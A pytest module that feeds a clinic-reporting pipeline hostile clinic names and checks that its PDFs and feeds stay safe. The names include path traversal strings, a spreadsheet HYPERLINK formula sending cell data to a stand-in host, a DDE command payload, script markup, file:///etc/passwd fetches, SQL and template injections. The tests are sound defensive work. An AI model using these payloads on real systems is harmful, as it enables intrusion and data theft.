"""Clinics, outcomes and networks with names that somebody made up to do harm: names, and nothing else."""

from __future__ import annotations

import re
from pathlib import Path

import duckdb
import pandas as pd
import pypdf
import pytest
from drawn_here import drawn_here
from pdf_text import text_of

from flows.monthly_job import report_period
from flows.period_reported import PeriodReported

pytestmark = [pytest.mark.attack, pytest.mark.slow]

NAMES = (
    "../../../../escaped",
    "/opt/absolute",
    "..",
    "CON",
    "line\nbreak\tname",
    '=HYPERLINK("http://x.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "</svg><text>x</text>",
    "<img src=file:///etc/passwd><link rel=attachment href=file:///etc/passwd>",
    "<style>@import url(file:///etc/passwd)</style>",
    "'); DROP TABLE records; --",
    "{{ 7*7 }} {% raw %}",
    "{records} {0} %s",
    "\u202egnp.exe",
    "L" * 600,
    "Same Name",
    "same-name",
    "same name!",
)
LABEL = "<h1>Label</h1> {{ 7*7 }} =1+1"
NETWORK = f"""
[network]
name = "<b>Net</b></title> ../../x {{{{ 7*7 }}}}"
time_zone = "UTC"

[records]
source = "records.duckdb"
select = "SELECT * FROM records"

[window]
months = 2

[outcomes.y]
label = "{LABEL}"
kind = "binary"
direction = "lower"
"""


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def reported(directory: Path) -> PeriodReported:
    """The whole job, drawn, of clinics with these names."""
    rows = [
        (name, 1000 * c + 50 * m + i, f"2024-0{m}-05", int(i % 5 < 2))
        for c, name in enumerate(NAMES)
        for m in (1, 2)
        for i in range(40)
    ]
    frame = pd.DataFrame(rows, columns=["clinic", "patient", "date", "y"])
    with duckdb.connect(str(directory / "records.duckdb")) as connection:
        connection.register("frame", frame)
        connection.execute("CREATE TABLE records AS SELECT * REPLACE (CAST(date AS DATE) AS date) FROM frame")
    file = directory / "network.toml"
    file.write_text(NETWORK, encoding="utf-8")
    return report_period(file, "2024-02", drawn_here())


def test_every_clinic_has_a_report_under_a_name_that_stays_in_its_directory(
    directory: Path, reported: PeriodReported
) -> None:
    reports = reported.directory / "reports/clinics"
    files = [each.name for each in reports.iterdir()]
    assert len(files) == len(NAMES)
    assert all(re.fullmatch(r"[a-z0-9][a-z0-9-]{0,99}\.pdf", each) for each in files), files
    assert {each.name for each in directory.iterdir()} == {"network.toml", "records.duckdb", "output"}
    assert not [each for each in directory.parent.iterdir() if "escaped" in each.name]
    assert not Path("/opt/absolute").exists()


def test_markup_and_templates_in_names_are_text(reported: PeriodReported) -> None:
    text = text_of(reported.directory / "reports/network.pdf")
    plain = re.sub(r"\s+", "", text)
    assert "<script>alert(1)</script>" in plain
    assert "{{7*7}}" in plain
    assert "<h1>Label</h1>" in plain
    assert "root:" not in text


def test_no_file_of_the_machine_is_fetched_or_attached(reported: PeriodReported) -> None:
    for file in (reported.directory / "reports").rglob("*.pdf"):
        assert b"/EmbeddedFile" not in file.read_bytes(), file.name
        assert not pypdf.PdfReader(file).attachments, file.name


def test_the_feed_has_the_names_as_they_are(reported: PeriodReported) -> None:
    for ending in ("parquet", "csv"):
        file = reported.directory / f"feed/clinics.{ending}"
        frame = pd.read_parquet(file) if ending == "parquet" else pd.read_csv(file, keep_default_na=False)
        held = {re.sub(r"\s+", " ", str(name)).strip() for name in frame["clinic"]}
        assert {"'); DROP TABLE records; --", "{{ 7*7 }} {% raw %}", "<script>alert(1)</script>"} <= held
        assert frame["slug"].is_unique
